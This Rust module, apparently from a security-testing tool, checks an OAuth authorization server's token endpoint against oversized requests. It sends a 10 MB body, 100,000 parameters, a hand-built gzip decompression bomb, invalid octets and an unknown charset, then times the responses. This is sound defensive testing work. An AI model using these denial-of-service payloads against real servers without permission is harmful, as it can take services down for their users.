//! Anybody can send a request to the token endpoint, and the server has to read it before it knows who that is. The
//! attacker sends more than any client ever does: a body of ten megabytes, a hundred thousand parameters, a few
//! kilobytes that unpack to four megabytes, octets that are no text.

use std::time::Duration;

use super::not_served;
use crate::attack::{Capability, Idea, Inconclusive, Need, On, ServerAttack, story};
use crate::authorization::Grant;
use crate::bench::Bench;
use crate::dice::fresh;
use crate::judge::Finding;
use crate::target::Registration;
use crate::verdict::{Level, Verdict};

/// `as-token-oversize`
pub(super) const ATTACK: ServerAttack = ServerAttack {
    idea: Idea {
        id: "as-token-oversize",
        name: "Requests that are too large",
        story: story!("token_oversize.rs"),
        capabilities: &[Capability::A1],
        citation: "RFC 6819 section 4.4.1.11, RFC 6749 section 10.14",
        steps: &["A token request with each of these bodies is sent.", "The server has five seconds for its answer."],
        secure: "The request is refused with 400, 413 or 415, or cut off.",
        insecure: "The server breaks down, or takes too long.",
        defence: "What arrives is bounded before it is read.",
        level: Level::Must,
        levels: &[],
    },
    on: On::OneClient,
    needs: &[Need::Permission],
    run: |bench, client| Box::pin(run(bench, client)),
};

async fn run(bench: &Bench, client: &Registration) -> Result<(), Inconclusive> {
    let form = "application/x-www-form-urlencoded";
    let large = format!("grant_type=authorization_code&code={}", "x".repeat(10 * 1024 * 1024));
    let many: String = (0..100_000).map(|number| format!("p{number}=&")).collect();
    let honest = || bench.redemption(client, &nobody(client));
    let requests = [
        ("a body of ten megabytes", honest().body(form, large)),
        ("a hundred thousand parameters", honest().body(form, many)),
        ("a body that unpacks to four megabytes", honest().body(form, bomb()).header("content-encoding", "gzip")),
        ("octets that are no text", honest().body(form, &b"grant_type=\xff\xfe&code=\x80"[..])),
        ("a body in a charset that nobody has", honest().body(&format!("{form}; charset=x-none"), "code=x")),
    ];
    for (what, request) in requests {
        match tokio::time::timeout(PATIENCE, request.send()).await {
            Err(_) => {
                let because = format!("{what} keeps the server busy for five seconds");
                bench.found(Finding::new(Verdict::Vulnerable, because), None)
            }
            // "The server MAY terminate the request" (RFC 9110 section 15.5.14); the control shows whether it lives.
            Ok(Err(_)) => bench.found(Finding::new(Verdict::Stopped, format!("{what} is cut off")), None),
            Ok(Ok(answer)) => bench.found(not_served(&answer, &[400, 413, 414, 415, 431], what), Some(&answer)),
        };
    }
    Ok(())
}

/// How long an answer may take.
const PATIENCE: Duration = Duration::from_secs(5);

/// A code that nobody has.
fn nobody(client: &Registration) -> Grant {
    Grant { code: fresh().into(), verifier: fresh().into(), redirect_uri: client.redirect_uri().to_owned() }
}

/// A gzip file (RFC 1952) of the letter x, four megabytes of them: one of it, and how often it is repeated, in the fixed
/// codes of RFC 1951 section 3.2.6.
fn bomb() -> Vec<u8> {
    const LETTERS: usize = 4 * 1024 * 1024;
    let mut bits: Vec<bool> = Vec::new();
    // Codes are packed with their most significant bit first, everything else with the least significant one.
    let mut put = |value: u32, length: u32| bits.extend((0..length).rev().map(|at| value >> at & 1 == 1));
    // The last block, with the fixed codes: 1, and 01 with its lower bit first.
    put(0b110, 3);
    put(0x30 + u32::from(b'x'), 8);
    for _ in 0..LETTERS / 258 {
        // 258 octets are length 285, and what is one octet back is distance 0.
        put(0b1100_0101, 8);
        put(0, 5);
    }
    // The end of the block.
    put(0, 7);
    let octets = bits.chunks(8).map(|octet| octet.iter().rev().fold(0, |value, bit| value << 1 | u8::from(*bit)));
    let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let tail = [0; 8];
    head.into_iter().chain(octets).chain(tail).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small_before_it_is_unpacked() {
        let bomb = bomb();
        assert!(bomb.len() < 32 * 1024, "{}", bomb.len());
        // One letter x in the fixed codes, and the beginning of its repetition.
        assert_eq!(bomb[10..13], [0xab, 0x18, 0x05]);
    }
}
